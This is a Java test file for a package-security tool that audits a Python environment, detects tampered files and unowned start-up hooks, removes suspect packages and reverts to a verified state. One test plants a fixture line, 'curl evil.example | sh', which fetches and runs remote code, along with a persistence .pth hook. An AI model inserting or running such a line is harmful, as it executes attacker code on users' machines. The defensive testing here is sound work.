package io.pkgguard.installer;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.pkgguard.api.AuditRecord;
import io.pkgguard.api.Decision;
import io.pkgguard.api.PackageId;
import io.pkgguard.api.PackageRequest;
import io.pkgguard.core.Guard;
import io.pkgguard.core.policy.PolicyLoader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Auditing what is installed: judged again, every file against its RECORD, start-up hooks
 * listed; and the responses: removing a suspect, reverting to the last verified state.
 */
class EnvironmentAuditTest {

  @TempDir Path dir;
  private PythonEnvironment environment;
  private Guard guard;

  @BeforeEach
  void installTidylib() throws Exception {
    TestIndex index =
        new TestIndex(dir.resolve("mirror"))
            .publish(new TestWheel("tidylib", "1.2.0").consoleScript("tidy"));
    environment = Environments.fresh(dir.resolve("venv"));
    guard =
        Guard.builder()
            .policy(
                PolicyLoader.parse(
                    "[store]\ntype = \"sqlite\"\npath = \""
                        + dir.resolve("state").toString().replace("\\", "\\\\")
                        + "\"\n",
                    "test.toml"))
            .offline(true)
            .index("pypi", index.uri())
            .advisoryDatabase(TestIndex.advisories(dir.resolve("advisories.zip")).toUri())
            .retainDownloads(dir.resolve("kept"))
            .identity("alice")
            .build();
    try (Installer installer = new Installer(guard)) {
      installer.install(
          installer.plan(
              environment,
              List.of(PackageRequest.of(PackageId.pypi("tidylib"))),
              InstallProgress.silent()),
          Consent.nobody(),
          InstallProgress.silent());
    }
  }

  @AfterEach
  void close() {
    guard.close();
  }

  private EnvironmentAudit.PackageReport report(EnvironmentAudit.Report report, String name) {
    return report.packages().stream()
        .filter(p -> p.distribution().name().equals(name))
        .findFirst()
        .orElseThrow();
  }

  @Test
  void aFreshInstallationIsIntactAndJudgedAgain() throws Exception {
    EnvironmentAudit.Report report = new EnvironmentAudit(guard).audit(environment);

    assertThat(report.unlisted()).isEmpty();
    assertThat(report.packages()).allSatisfy(p -> assertThat(p.intact()).isTrue());
    assertThat(report(report, "tidylib").verdict().decision()).isEqualTo(Decision.ALLOW);
    assertThat(report.startupHooks())
        .extracting(EnvironmentAudit.StartupHook::path)
        .contains(
            "lib/python"
                + environment.markers().marker("python_version").orElseThrow()
                + "/site-packages/distutils-precedence.pth");
  }

  @Test
  void aFileEditedAfterInstallAndAnUnownedHookAreFoundAndRevertPutsThemRight() throws Exception {
    Path module = environment.purelib().resolve("tidylib/__init__.py");
    Files.writeString(module, "import os; os.system('curl evil.example | sh')\n");
    Path hook = environment.purelib().resolve("zz-persist.pth");
    Files.writeString(hook, "import os\n");
    EnvironmentAudit audit = new EnvironmentAudit(guard);

    EnvironmentAudit.Report found = audit.audit(environment);

    assertThat(report(found, "tidylib").modified())
        .singleElement()
        .asString()
        .endsWith("site-packages/tidylib/__init__.py");
    assertThat(found.unlisted()).singleElement().asString().endsWith("zz-persist.pth");
    assertThat(found.startupHooks())
        .anySatisfy(
            h -> {
              assertThat(h.path()).endsWith("zz-persist.pth");
              assertThat(h.owner()).isEmpty();
            });
    assertThat(found.intact()).isFalse();

    List<String> left = audit.revert(environment);

    assertThat(left).isEmpty();
    assertThat(module).content().contains("VERSION = \"1.2.0\"");
    assertThat(hook).doesNotExist();
    assertThat(audit.audit(environment).intact()).isTrue();
    assertThat(guard.auditLog().records(r -> r.kind() == AuditRecord.Kind.INSTALLATION))
        .last()
        .satisfies(r -> assertThat(r.details()).containsEntry("outcome", "reverted"));
  }

  @Test
  void aSuspectIsRemovedAndRevertDoesNotBringItBack() throws Exception {
    EnvironmentAudit audit = new EnvironmentAudit(guard);

    audit.remove(environment, "TidyLib", "reported malicious");

    assertThat(audit.audit(environment).packages())
        .extracting(p -> p.distribution().name())
        .doesNotContain("tidylib");
    assertThat(environment.scripts().resolve("tidy")).doesNotExist();
    assertThat(audit.revert(environment)).isEmpty();
    assertThat(audit.audit(environment).packages())
        .extracting(p -> p.distribution().name())
        .doesNotContain("tidylib");
    assertThat(guard.auditLog().records(r -> r.kind() == AuditRecord.Kind.INSTALLATION))
        .anySatisfy(
            r ->
                assertThat(r.summary())
                    .isEqualTo("removed tidylib 1.2.0: reported" + " malicious"));
    assertThatThrownBy(() -> audit.remove(environment, "tidylib", "again"))
        .hasMessageContaining("tidylib is not installed");
  }

  @Test
  void aPackageInstalledBehindPkgguardsBackIsRemovedByRevert() throws Exception {
    // What plain pip would leave: a distribution with a RECORD, not in the verified state.
    Path site = environment.purelib();
    Files.createDirectories(site.resolve("sneaky-0.1.dist-info"));
    Files.writeString(site.resolve("sneaky.py"), "X = 1\n");
    Files.writeString(
        site.resolve("sneaky-0.1.dist-info/METADATA"),
        "Metadata-Version: 2.1\nName: sneaky\nVersion: 0.1\n");
    Files.writeString(
        site.resolve("sneaky-0.1.dist-info/RECORD"),
        "sneaky.py,sha256="
            + RecordFile.digest(site.resolve("sneaky.py"))
            + ",6\n"
            + "sneaky-0.1.dist-info/METADATA,,\nsneaky-0.1.dist-info/RECORD,,\n");
    EnvironmentAudit audit = new EnvironmentAudit(guard);
    assertThat(audit.audit(environment).packages())
        .extracting(p -> p.distribution().name())
        .contains("sneaky");

    audit.revert(environment);

    assertThat(site.resolve("sneaky.py")).doesNotExist();
    assertThat(audit.audit(environment).packages())
        .extracting(p -> p.distribution().name())
        .doesNotContain("sneaky");
  }
}
